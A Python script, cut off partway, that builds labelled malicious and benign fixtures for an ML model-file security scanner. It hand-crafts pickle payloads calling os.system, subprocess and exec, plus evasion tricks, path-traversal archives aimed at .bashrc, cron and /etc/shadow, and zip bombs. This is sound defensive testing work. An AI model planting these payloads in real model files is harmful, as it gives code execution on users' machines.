# ruff: noqa: E501 - the corpus tables keep one entry per line
"""Build the supply-chain scanner corpus in ``tests/fixtures/supply/`` (committed output).

Malicious files are assembled from raw pickle opcodes (and raw zip/tar/compression layers
around them); nothing here ever unpickles anything.  Benign files are produced by the real
libraries: ``torch.save`` checkpoints, numpy and safetensors files from this environment,
and scikit-learn/joblib models from a separate environment (``.bench-venv-corpus``, created
on demand with ``pip install scikit-learn joblib``) because scikit-learn is not a tracemark
dependency.

    .venv/bin/python scripts/build_supply_corpus.py

``manifest.json`` lists every file with its label, the attack class or advisory it
reconstructs, and for malicious files the finding rule it must raise (hand-labelled in
``EXPECTED_RULE``).
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import importlib
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
OUT = REPO / "tests" / "fixtures" / "supply"
CORPUS_VENV = REPO / ".bench-venv-corpus"
FIXED_TIME = (2026, 1, 1, 0, 0, 0)

# --- a tiny pickle assembler (raw opcodes) ----------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL: the protocol 0-3 way to name a callable."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """BINUNICODE (protocol 1+) or SHORT_BINUNICODE for short strings."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def ustr4(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+) with both operands pushed as strings."""
    return ustr(module) + ustr(name) + b"\x93"


def bstr(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def text_str(text: str) -> bytes:
    """Protocol 0 STRING."""
    return b"S" + repr(text).encode() + b"\n"


def call(callee: bytes, *args: bytes) -> bytes:
    """callee MARK args... TUPLE REDUCE."""
    return callee + b"(" + b"".join(args) + b"tR"


def stop(body: bytes, protocol: int = 2) -> bytes:
    return (proto(protocol) if protocol >= 2 else b"") + body + b"."


def framed(body: bytes) -> bytes:
    """A protocol 5 pickle whose opcodes (STOP included) sit in one FRAME of exactly their length."""
    return proto(5) + b"\x95" + struct.pack("<Q", len(body)) + body


def os_system(command: str = "id", protocol: int = 2) -> bytes:
    return stop(call(glob("os", "system"), ustr4(command)), protocol)


def zip_bytes(members: list[tuple[str, bytes]], *, compress: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compress) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = compress
            archive.writestr(info, data)
    return buffer.getvalue()


def torch_like_zip(pickle_bytes: bytes, *, prefix: str = "archive", pickle_name: str = "data.pkl") -> bytes:
    """The PyTorch zip layout (``torch.save``) around a hand-written data.pkl."""
    return zip_bytes(
        [
            (f"{prefix}/{pickle_name}", pickle_bytes),
            (f"{prefix}/byteorder", b"little"),
            (f"{prefix}/data/0", b"\x00" * 64),
            (f"{prefix}/version", b"3\n"),
        ]
    )


def tar_bytes(members: list[tuple[str, bytes]], links: tuple[tuple[str, str, bytes], ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_767_225_600
            archive.addfile(info, io.BytesIO(data))
        for name, target, kind in links:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = target
            info.mtime = 1_767_225_600
            archive.addfile(info)
    return buffer.getvalue()


def npy_object(payload: bytes) -> bytes:
    """A version 1.0 .npy file whose object-array data is ``payload`` (a raw pickle)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode("latin-1") + payload


def joblib_object_array(payload_body: bytes) -> bytes:
    """A joblib stream: a NumpyArrayWrapper for an object array, followed by the nested pickle."""
    wrapper = (
        proto(4)
        + sglob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81"  # EMPTY_TUPLE NEWOBJ
        + b"}("  # EMPTY_DICT MARK
        + ustr("subclass")
        + sglob("numpy", "ndarray")
        + ustr("shape")
        + b"K\x01\x85"  # (1,)
        + ustr("order")
        + ustr("C")
        + ustr("dtype")
        + call(sglob("numpy", "dtype"), ustr("O8"), b"\x89", b"\x88")
        + b"(K\x03"
        + ustr("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"  # dtype state, BUILD
        + ustr("allow_mmap")
        + b"\x89ub"  # SETITEMS, BUILD
    )
    return wrapper + payload_body + b"."


def protobuf_field(number: int, value: bytes | int) -> bytes:
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            byte = n & 0x7F
            n >>= 7
            out.append(byte | (0x80 if n else 0))
            if not n:
                return bytes(out)

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx_model(location: str) -> bytes:
    """A minimal ONNX ModelProto with one initializer stored as external data at ``location``."""
    entry = protobuf_field(1, b"location") + protobuf_field(2, location.encode())
    tensor = (
        protobuf_field(1, 4)  # dims
        + protobuf_field(2, 1)  # data_type FLOAT
        + protobuf_field(8, b"weight")  # name
        + protobuf_field(13, entry)  # external_data
        + protobuf_field(14, 1)  # data_location EXTERNAL
    )
    graph = protobuf_field(2, b"g") + protobuf_field(5, tensor)
    opset = protobuf_field(1, b"") + protobuf_field(2, 17)
    return (
        protobuf_field(1, 8)
        + protobuf_field(2, b"tracemark-corpus")
        + protobuf_field(7, graph)
        + protobuf_field(8, opset)
    )


def gguf_file(metadata: dict[str, str]) -> bytes:
    """A GGUF v3 file with string metadata and one aligned F32 tensor."""

    def string(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    body = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata))
    for key, value in metadata.items():
        body += string(key) + struct.pack("<I", 8) + string(value)
    body += string("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<IQ", 0, 0)
    body += b"\x00" * (-len(body) % 32)
    return body + struct.pack("<4f", 1, 2, 3, 4)


def legacy_torch(main_pickle: bytes) -> bytes:
    """The pre-1.6 ``torch.save`` layout: magic, protocol, sys info, object, storage keys, data."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    return magic + version + sys_info + main_pickle + keys


# --- malicious corpus ---------------------------------------------------------------------------------

Entry = tuple[str, bytes, str, str]  # file name, content, attack class or advisory, description


def malicious() -> list[Entry]:
    system = os_system()
    nested_payload = zlib.compress(system)
    memo_trick = stop(
        b"}"  # a dict whose keys put "os" and "system" in the memo
        + b"q\x00"
        + ustr("os")
        + b"q\x01"
        + b"K\x01"
        + b"s"
        + ustr("system")
        + b"q\x02"
        + b"K\x02"
        + b"s"
        + b"0"  # POP the dict
        + b"h\x01h\x02\x93"  # BINGET 1, BINGET 2, STACK_GLOBAL
        + b"("
        + ustr4("id")
        + b"tR",
        4,
    )
    memo_overwrite = stop(
        ustr("collections")
        + b"q\x00"
        + ustr("OrderedDict")
        + b"q\x01"
        + b"0"
        + b"0"
        + ustr("os")
        + b"q\x00"  # PUT 0 again: the memo slot now holds "os"
        + b"0"
        + ustr("system")
        + b"q\x01"
        + b"0"
        + b"h\x00h\x01\x93"
        + b"("
        + ustr4("id")
        + b"tR",
        4,
    )
    memoize_trick = stop(
        ustr("subprocess")
        + b"\x94"
        + ustr("getoutput")
        + b"\x94"
        + b"0"
        + b"0"
        + b"h\x00h\x01\x93"
        + b"("
        + ustr4("id")
        + b"tR",
        4,
    )
    entries: list[Entry] = [
        ("os_system_p0.pkl", b"cos\nsystem\n(S'id'\ntR.", "os.system (protocol 0)", "GLOBAL os.system, REDUCE"),
        ("posix_system_p2.pkl", stop(call(glob("posix", "system"), ustr4("id"))), "posix.system", "posix alias"),
        ("nt_system_p4.pkl", stop(call(sglob("nt", "system"), ustr("id")), 4), "nt.system", "STACK_GLOBAL"),
        ("builtins_exec_p3.pkl", stop(call(glob("builtins", "exec"), ustr4("import os")), 3), "exec", "exec"),
        ("py2_builtin_eval_p0.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", "__builtin__ name mapping", "py2 names"),
        (
            "getattr_import_chain.pkl",
            stop(
                call(
                    call(
                        glob("builtins", "getattr"), call(glob("builtins", "__import__"), ustr4("os")), ustr4("system")
                    ),
                    ustr4("id"),
                )
            ),
            "getattr/__import__ chain",
            "getattr(__import__('os'), 'system')('id')",
        ),
        ("runpy_run_code.pkl", stop(call(glob("runpy", "_run_code"), ustr4("print(1)"), b"}")), "runpy", "runpy"),
        ("cprofile_run.pkl", stop(call(glob("cProfile", "run"), ustr4("print(1)"))), "cProfile.run", "cProfile"),
        ("timeit_timeit.pkl", stop(call(glob("timeit", "timeit"), ustr4("print(1)"), ustr4("pass"))), "timeit", ""),
        ("ctypes_cdll.pkl", stop(call(glob("ctypes", "CDLL"), ustr4("libc.so.6"))), "ctypes", "load a library"),
        (
            "operator_methodcaller.pkl",
            stop(
                call(
                    call(glob("_operator", "methodcaller"), ustr4("system"), ustr4("id")),
                    call(glob("builtins", "__import__"), ustr4("os")),
                )
            ),
            "_operator.methodcaller",
            "methodcaller('system','id')(os)",
        ),
        (
            "operator_attrgetter.pkl",
            stop(
                call(
                    call(glob("operator", "attrgetter"), ustr4("system")),
                    call(glob("importlib", "import_module"), ustr4("os")),
                )
            ),
            "picklescan#66 attrgetter",
            "attrgetter('system')(import_module('os'))",
        ),
        ("pip_main.pkl", stop(call(glob("pip", "main"), b"]" + ustr4("install") + b"a")), "CVE-2025-1716", "pip.main"),
        (
            "asyncio_subprocess_transport.pkl",
            stop(
                call(
                    glob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                    b"N",
                    ustr4("id"),
                    b"\x88",
                    b"N",
                    b"N",
                    b"N",
                    b"K\x00",
                )
            ),
            "CVE-2025-10157",
            "asyncio _UnixSubprocessTransport._start",
        ),
        (
            "numpy_runstring.pkl",
            stop(call(glob("numpy.testing._private.utils", "runstring"), ustr4("import os"), b"}")),
            "numpy runstring",
            "numpy.testing._private.utils.runstring",
        ),
        ("code_interact.pkl", stop(call(glob("code", "InteractiveInterpreter"), b"N")), "code module", ""),
        (
            "idlelib_calltip.pkl",
            stop(call(glob("idlelib.calltip", "get_entity"), ustr4("__import__('os')"))),
            "idlelib",
            "",
        ),
        ("torch_hub_load.pkl", stop(call(glob("torch.hub", "load"), ustr4("evil/repo"), ustr4("m"))), "torch.hub", ""),
        (
            "importlib_getattr.pkl",
            stop(
                call(
                    call(
                        glob("builtins", "getattr"),
                        call(glob("importlib", "import_module"), ustr4("os")),
                        ustr4("system"),
                    ),
                    ustr4("id"),
                )
            ),
            "modelscan#331 importlib chain",
            "",
        ),
        (
            "pkgutil_resolve_name.pkl",
            stop(call(call(glob("pkgutil", "resolve_name"), ustr4("os:system")), ustr4("id"))),
            "pkgutil.resolve_name (picklescan 1.0.4)",
            "",
        ),
        (
            "zlib_nested_pickle_loads.pkl",
            stop(call(glob("pickle", "loads"), call(glob("zlib", "decompress"), bstr(nested_payload))), 3),
            "modelscan#267 nested loads",
            "zlib-hidden pickle.loads",
        ),
        (
            "zlib_nested_c_pickle_loads.pkl",
            stop(call(glob("_pickle", "loads"), call(glob("zlib", "decompress"), bstr(nested_payload))), 3),
            "modelscan#338 zlib obfuscation",
            "_pickle.loads",
        ),
        (
            "marshal_function_type.pkl",
            stop(call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), bstr(b"\xe3")), b"}"))),
            "PR #74 marshal",
            "FunctionType(marshal.loads(...), {})()",
        ),
        (
            "numpy_builtins.pkl",
            stop(call(call(glob("builtins", "getattr"), sglob("numpy", "__builtins__"), ustr("get")), ustr("eval")), 4),
            "modelscan#89 numpy.__builtins__",
            "",
        ),
        (
            "mailcap_findmatch.pkl",
            stop(call(glob("mailcap", "findmatch"), b"}", ustr4("text/plain"), ustr4("view"), ustr4("; id"))),
            "modelscan PR #346 mailcap",
            "",
        ),
        ("pdb_run.pkl", stop(call(glob("pdb", "run"), ustr4("import os"))), "pdb.run", ""),
        (
            "xxsubinterpreters_run_string.pkl",
            stop(call(glob("_xxsubinterpreters", "run_string"), b"K\x00", ustr4("import os"))),
            "_xxsubinterpreters.run_string",
            "",
        ),
        ("stack_global_memo.pkl", memo_trick, "picklescan#14/#22 memo confusion", "STACK_GLOBAL operands from BINGET"),
        ("stack_global_memo_overwrite.pkl", memo_overwrite, "memo overwrite", "PUT 0 reused: benign first, os later"),
        ("stack_global_memoize.pkl", memoize_trick, "MEMOIZE indices", "STACK_GLOBAL operands from MEMOIZE"),
        (
            "stack_global_type_confusion.pkl",
            stop(b"K\x01" + ustr("system") + b"\x93" + b"0" + call(sglob("os", "system"), ustr("id")), 4),
            "modelscan#338 type confusion",
            "non-string STACK_GLOBAL operand, then os.system",
        ),
        (
            "build_on_allowed_global.pkl",
            stop(glob("collections", "OrderedDict") + b"N}" + ustr("__reduce__") + glob("os", "system") + b"s\x86b"),
            "fickling PR #302 BUILD route",
            "BUILD sets attributes on a global",
        ),
        (
            "build_state_setattr.pkl",
            stop(glob("torch", "Tensor") + b"}" + ustr("__setstate__") + glob("builtins", "exec") + b"sb"),
            "GHSA-6ggj-6f2q-f7mx (BUILD)",
            "BUILD installs __setstate__",
        ),
        ("ext1_registry.pkl", stop(b"\x82\x01(" + ustr4("id") + b"tR"), "copyreg extension codes", "EXT1"),
        ("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", "INST opcode", "protocol 0 INST os.system"),
        ("obj_opcode.pkl", stop(b"(" + glob("os", "system") + ustr4("id") + b"o", 1), "OBJ opcode", ""),
        (
            "newobj_popen.pkl",
            stop(glob("subprocess", "Popen") + b"(" + ustr4("id") + b"t\x81"),
            "NEWOBJ subprocess.Popen",
            "",
        ),
        ("newobj_ex_popen.pkl", stop(sglob("subprocess", "Popen") + b"(" + ustr("id") + b"t}\x92", 4), "NEWOBJ_EX", ""),
        (
            "protocol5_framed.pkl",
            framed(call(sglob("os", "system"), ustr("id")) + b"."),
            "protocol 5 FRAME",
            "",
        ),
        (
            "binunicode8_names.pkl",
            stop(
                b"\x8d"
                + struct.pack("<Q", 2)
                + b"os"
                + b"\x8d"
                + struct.pack("<Q", 6)
                + b"system"
                + b"\x93("
                + ustr("id")
                + b"tR",
                4,
            ),
            "BINUNICODE8 operands",
            "",
        ),
        (
            "dotted_name_torch_hub.pkl",
            stop(call(sglob("torch", "hub.load"), ustr("evil/repo"), ustr("m")), 4),
            "dotted attribute path",
            "torch + 'hub.load'",
        ),
        (
            "dotted_name_globals.pkl",
            stop(sglob("collections", "OrderedDict.__init__.__globals__"), 4),
            "dotted path from an allowlisted global",
            "",
        ),
        ("shutil_rmtree.pkl", stop(call(glob("shutil", "rmtree"), ustr4("/tmp/x"))), "file deletion", ""),
        (
            "webbrowser_open.pkl",
            stop(call(glob("webbrowser", "open"), ustr4("http://example.invalid"))),
            "webbrowser",
            "",
        ),
        (
            "socket_connect.pkl",
            stop(call(glob("socket", "create_connection"), ustr4("example.invalid") + b"MP\x00\x86")),
            "network",
            "",
        ),
        ("subprocess_check_output.pkl", stop(call(glob("subprocess", "check_output"), ustr4("id"))), "subprocess", ""),
        (
            "builtins_open_write.pkl",
            stop(
                call(
                    call(
                        glob("builtins", "getattr"),
                        call(glob("builtins", "open"), ustr4("/tmp/x"), ustr4("w")),
                        ustr4("write"),
                    ),
                    ustr4("pwned"),
                )
            ),
            "file write",
            "",
        ),
        (
            "functools_partial.pkl",
            stop(call(call(glob("functools", "partial"), glob("os", "system"), ustr4("id")))),
            "functools.partial",
            "",
        ),
        (
            "copyreg_reconstructor_popen.pkl",
            stop(
                call(
                    glob("copyreg", "_reconstructor"),
                    glob("subprocess", "Popen"),
                    glob("subprocess", "Popen"),
                    ustr4("id"),
                )
            ),
            "allowlisted callable carrying a denied global",
            "",
        ),
        (
            "torch_rebuild_from_type.pkl",
            stop(
                call(
                    glob("torch._tensor", "_rebuild_from_type_v2"),
                    glob("os", "system"),
                    glob("torch", "Tensor"),
                    b"(" + ustr4("id") + b"t",
                    b"}",
                )
            ),
            "torch rebuild with a denied function",
            "",
        ),
        (
            "persistent_id_global.pkl",
            stop(b"(" + ustr4("storage") + glob("os", "system") + ustr4("0") + ustr4("cpu") + b"K\x01tQ"),
            "persistent id carrying a denied global",
            "",
        ),
        (
            "pop_decoy.pkl",
            stop(glob("os", "system") + glob("collections", "OrderedDict") + b"0(" + ustr4("id") + b"tR"),
            "POP decoy",
            "a benign GLOBAL popped before REDUCE",
        ),
        ("dup_decoy.pkl", stop(glob("os", "system") + b"2" + b"0(" + ustr4("id") + b"tR"), "DUP decoy", ""),
        (
            "invalid_opcode_after_call.pkl",
            proto(2) + call(glob("os", "system"), ustr4("id")) + b"\xff\xfe",
            "invalid opcode after the payload",
            "the call runs before the loader fails",
        ),
        (
            "sys_modules_setitem.pkl",
            stop(glob("sys", "modules") + ustr4("json") + glob("os", "path") + b"s"),
            "sys.modules poisoning",
            "",
        ),
        (
            "torch_serialization_load.pkl",
            stop(call(glob("torch.serialization", "load"), ustr4("/tmp/other.pt"))),
            "nested torch.load",
            "",
        ),
        ("garbage_tail.pkl", system + b"\x00GARBAGE-TAIL" * 4, "trailing data", "payload followed by junk"),
        (
            "benign_with_trailing_pickle.pkl",
            pickle.dumps({"a": 1}, protocol=2) + system,
            "second pickle after STOP",
            "a loader reading two objects runs it",
        ),
        (
            "polyglot_pickle_zip.bin",
            system + zip_bytes([("readme.txt", b"hello")]),
            "pickle/zip polyglot",
            "zip found by its end record",
        ),
        ("renamed_payload.txt", system, "CVE-2025-1889 / CVE-2025-10155 extension tricks", "raw pickle named .txt"),
        ("pytorch_zip_malicious.pt", torch_like_zip(system), "PyTorch zip", "malicious data.pkl"),
        (
            "pytorch_zip_renamed.bin",
            torch_like_zip(system, pickle_name="data.xyz"),
            "renamed .bin and member",
            "data.xyz",
        ),
        (
            "pytorch_zip_extra_member.pt",
            zip_bytes([("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/extra.pkl", system)]),
            "hidden member",
            "",
        ),
        (
            "pytorch_zip_fake_storage.pt",
            zip_bytes([("archive/data/0", system)]),
            "payload in a storage-like name",
            "no data.pkl: not a checkpoint, scanned",
        ),
        (
            "pytorch_zip_duplicate_member.pt",
            zip_bytes([("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/data.pkl", system)]),
            "duplicate members",
            "",
        ),
        ("nested_zip.zip", zip_bytes([("inner.zip", torch_like_zip(system))]), "nested zip", ""),
        ("tar_payload.tar", tar_bytes([("model/data.pkl", system)]), "tar", ""),
        ("tar_gz_payload.tar.gz", gzip.compress(tar_bytes([("model.bin", system)]), mtime=0), "tar.gz", ""),
        ("gzip_payload.pkl.gz", gzip.compress(system, mtime=0), "gzip", ""),
        ("bz2_payload.pkl.bz2", bz2.compress(system), "bzip2", ""),
        ("xz_payload.pkl.xz", lzma.compress(system), "xz", ""),
        ("zlib_payload.joblib", zlib.compress(system), "zlib (joblib compress)", ""),
        (
            "sevenzip_wrapped.7z",
            b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + lzma.compress(system),
            "nullifAI 7z wrap",
            "7z cannot be inspected: refused",
        ),
        ("npy_object_payload.npy", npy_object(system), "numpy object array", ""),
        ("npz_object_payload.npz", zip_bytes([("arr_0.npy", npy_object(system))]), "npz with object array", ""),
        (
            "joblib_object_array.joblib",
            joblib_object_array(system),
            "joblib object array",
            "nested pickle after the wrapper",
        ),
        ("legacy_torch_payload.pt", legacy_torch(system), "legacy torch.save", ""),
        ("zip_path_traversal.zip", zip_bytes([("../../home/user/.bashrc", b"echo pwned\n")]), "path traversal", ""),
        ("tar_path_traversal.tar", tar_bytes([("../../etc/cron.d/job", b"* * * * * root id\n")]), "path traversal", ""),
        (
            "tar_symlink_escape.tar",
            tar_bytes([], (("model/weights.bin", "../../../etc/passwd", tarfile.SYMTYPE),)),
            "symlink escape",
            "",
        ),
        ("zip_bomb.zip", zip_bytes([("big.bin", b"\x00" * (48 << 20))], compress=zipfile.ZIP_DEFLATED), "zip bomb", ""),
        ("gzip_bomb.bin.gz", gzip.compress(b"\x00" * (48 << 20), mtime=0), "gzip bomb", ""),
        (
            "zip_crc_mismatch.pt",
            _corrupt_crc(torch_like_zip(system)),
            "CVE-2025-10156 CRC bypass (read leniently)",
            "scanners that give up on CRC errors",
        ),
        (
            "zip_local_name_mismatch.pt",
            _rename_in_local_header(torch_like_zip(system)),
            "CVE-2025-1944 zip name tampering",
            "local header and central directory disagree",
        ),
        (
            "zip_flag_bits.pt",
            _set_flag_bits(torch_like_zip(system)),
            "CVE-2025-1945 zip flag bits",
            "encrypted flag set on plain members",
        ),
        (
            "keras_lambda.keras",
            zip_bytes(
                [
                    ("config.json", json.dumps(_keras_config(lambda_layer=True)).encode()),
                    ("metadata.json", b'{"keras_version": "3.6.0"}'),
                ]
            ),
            "Keras Lambda layer",
            "",
        ),
        ("onnx_external_traversal.onnx", onnx_model("../../../../etc/passwd"), "ONNX external data escape", ""),
        ("onnx_external_absolute.onnx", onnx_model("/etc/shadow"), "ONNX external data escape", ""),
        (
            "gguf_template_ssti.gguf",
            gguf_file(
                {
                    "general.architecture": "llama",
                    "tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                }
            ),
            "CVE-2024-34359 GGUF chat template",
            "",
        ),
        (
            "safetensors_overlap.safetensors",
            _safetensors({"a": ("F32", [2], [0, 8]), "b": ("F32", [2], [4, 12])}, 12),
            "safetensors overlapping offsets",
            "",
        ),
        (
            "safetensors_huge_header.safetensors",
            struct.pack("<Q", 1 << 40) + b'{"a": 1}',
            "safetensors header length 2^40",
            "",
        ),
        ("truncated_after_call.pkl", proto(2) + call(glob("os", "system"), ustr4("id")), "truncated stream", "no STOP"),
    ]
    return entries


def _rename_in_local_header(data: bytes) -> bytes:
    """CVE-2025-1944: the first member's name differs between its local header and the directory."""
    tampered = bytearray(data)
    at = tampered.find(b"PK\x03\x04")
    name_length = int.from_bytes(tampered[at + 26 : at + 28], "little")
    name_at = at + 30
    tampered[name_at + name_length - 1] ^= 0x20  # "data.pkl" -> "data.pkL"
    return bytes(tampered)


def _set_flag_bits(data: bytes) -> bytes:
    """CVE-2025-1945: general-purpose flag bits (here "encrypted") set on every member, which
    PyTorch's reader ignores but Python's zipfile refuses."""
    tampered = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = tampered.find(signature)
        while at >= 0:
            tampered[at + offset] |= 0x01
            at = tampered.find(signature, at + 4)
    return bytes(tampered)


def _corrupt_crc(data: bytes) -> bytes:
    """Flip the CRC-32 of the first member in both the local header and the central directory."""
    corrupted = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = corrupted.find(signature)
        corrupted[at + offset] ^= 0xFF
    return bytes(corrupted)


def _keras_config(*, lambda_layer: bool) -> dict[str, Any]:
    layers: list[dict[str, Any]] = [
        {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "input"}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 2}},
    ]
    if lambda_layer:
        function = {
            "class_name": "__lambda__",
            "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFOqQCpAdoBeHMBAAAAIPr",
                "defaults": None,
                "closure": None,
            },
        }
        layers.append({"class_name": "Lambda", "config": {"name": "lambda", "function": function}})
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


def _safetensors(tensors: dict[str, tuple[str, list[int], list[int]]], data_size: int) -> bytes:
    header = {name: {"dtype": d, "shape": s, "data_offsets": o} for name, (d, s, o) in tensors.items()}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * data_size


# --- benign corpus ---------------------------------------------------------------------------------------


def benign_torch() -> list[Entry]:
    import numpy as np
    import torch
    from safetensors.torch import save as save_safetensors

    torch.manual_seed(0)
    entries: list[Entry] = []

    def saved(obj: Any, **kwargs: Any) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, **kwargs)
        return buffer.getvalue()

    modules: dict[str, Callable[[], torch.nn.Module]] = {
        "linear": lambda: torch.nn.Linear(8, 4),
        "conv2d": lambda: torch.nn.Conv2d(3, 4, 3),
        "lstm": lambda: torch.nn.LSTM(6, 5, num_layers=2),
        "gru": lambda: torch.nn.GRU(4, 3),
        "embedding": lambda: torch.nn.Embedding(20, 6),
        "layernorm": lambda: torch.nn.LayerNorm(8),
        "batchnorm": lambda: torch.nn.BatchNorm1d(6),
        "transformer_layer": lambda: torch.nn.TransformerEncoderLayer(8, 2, dim_feedforward=16),
        "mlp": lambda: torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)),
        "multihead_attention": lambda: torch.nn.MultiheadAttention(8, 2),
    }
    for name, factory in modules.items():
        module = factory()
        entries.append((f"torch_{name}_state_dict.pt", saved(module.state_dict()), "torch.save state_dict", ""))
    model = modules["mlp"]()
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    checkpoint = {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "loss": 0.25}
    entries.append(("torch_training_checkpoint.pt", saved(checkpoint), "checkpoint with optimizer state", ""))
    entries.append(("torch_checkpoint.pth", saved(checkpoint), ".pth name", ""))
    entries.append(("torch_checkpoint_renamed.bin", saved(checkpoint), ".bin name (HF)", ""))
    for dtype in (torch.float16, torch.bfloat16, torch.int8, torch.bool, torch.int64, torch.float64, torch.complex64):
        tensors = {"t": torch.zeros(4, dtype=dtype), "meta": {"dtype": str(dtype), "shape": torch.Size([4])}}
        entries.append((f"torch_dtype_{str(dtype).split('.')[-1]}.pt", saved(tensors), "dtype coverage", ""))
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()))
    buffer = io.BytesIO()
    torch.jit.save(scripted, buffer)
    entries.append(("torchscript_module.pt", buffer.getvalue(), "TorchScript archive (torch.jit.save)", ""))
    entries.append(("torch_parameter.pt", saved({"p": torch.nn.Parameter(torch.ones(3))}), "Parameter", ""))
    entries.append(
        ("torch_device_and_size.pt", saved({"device": torch.device("cpu"), "size": torch.Size([2, 3])}), "", "")
    )
    nested = {"layers": [torch.ones(2), (torch.zeros(1), None)], "names": ["a", "b"], "cfg": {"lr": 1e-3, "b": True}}
    entries.append(("torch_nested_objects.pt", saved(nested), "nested containers", ""))
    for protocol in (2, 3, 4, 5):
        entries.append(
            (f"torch_pickle_protocol{protocol}.pt", saved({"w": torch.ones(2)}, pickle_protocol=protocol), "", "")
        )
    entries.append(
        (
            "torch_legacy_format.pt",
            saved({"w": torch.ones(3)}, _use_new_zipfile_serialization=False),
            "legacy torch.save",
            "",
        )
    )
    entries.append(("torch_checkpoint.pt.gz", gzip.compress(saved({"w": torch.ones(3)}), mtime=0), "gzip-wrapped", ""))
    entries.append(
        (
            "torch_checkpoints.tar",
            tar_bytes([("ckpt/a.pt", saved({"a": torch.ones(2)})), ("ckpt/b.pt", saved({"b": torch.ones(2)}))]),
            "tar of checkpoints",
            "",
        )
    )
    entries.append(
        (
            "model.safetensors",
            save_safetensors({"w": torch.ones(4, 4), "b": torch.zeros(4)}, metadata={"format": "pt"}),
            "safetensors",
            "",
        )
    )
    entries.append(
        ("model_bf16.safetensors", save_safetensors({"w": torch.ones(3, dtype=torch.bfloat16)}), "safetensors", "")
    )
    rng = np.random.default_rng(0)
    arrays: dict[str, Any] = {
        "float64": rng.random((4, 3)),
        "int32": np.arange(12, dtype=np.int32).reshape(3, 4),
        "fortran": np.asfortranarray(rng.random((3, 2))),
        "structured": np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")]),
        "strings": np.array(["alpha", "beta"]),
    }
    for name, array in arrays.items():
        buffer = io.BytesIO()
        np.save(buffer, array)
        entries.append((f"numpy_{name}.npy", buffer.getvalue(), "numpy .npy", ""))
        for protocol in (2, 4, 5):
            entries.append(
                (f"numpy_{name}_p{protocol}.pkl", pickle.dumps(array, protocol=protocol), "numpy pickle", "")
            )
    buffer = io.BytesIO()
    np.savez(buffer, a=arrays["float64"], b=arrays["int32"])
    entries.append(("numpy_arrays.npz", buffer.getvalue(), "numpy .npz", ""))
    buffer = io.BytesIO()
    np.savez_compressed(buffer, a=arrays["float64"])
    entries.append(("numpy_compressed.npz", buffer.getvalue(), "numpy .npz (deflate)", ""))
    buffer = io.BytesIO()
    np.save(buffer, np.array([1, "two", None], dtype=object), allow_pickle=True)
    entries.append(("numpy_object_array.npy", buffer.getvalue(), "object array of builtins", ""))
    entries.append(
        ("numpy_scalars.pkl", pickle.dumps({"f": np.float32(1.5), "i": np.int64(3)}, protocol=4), "numpy scalars", "")
    )
    entries.append(
        (
            "plain_python_p0.pkl",
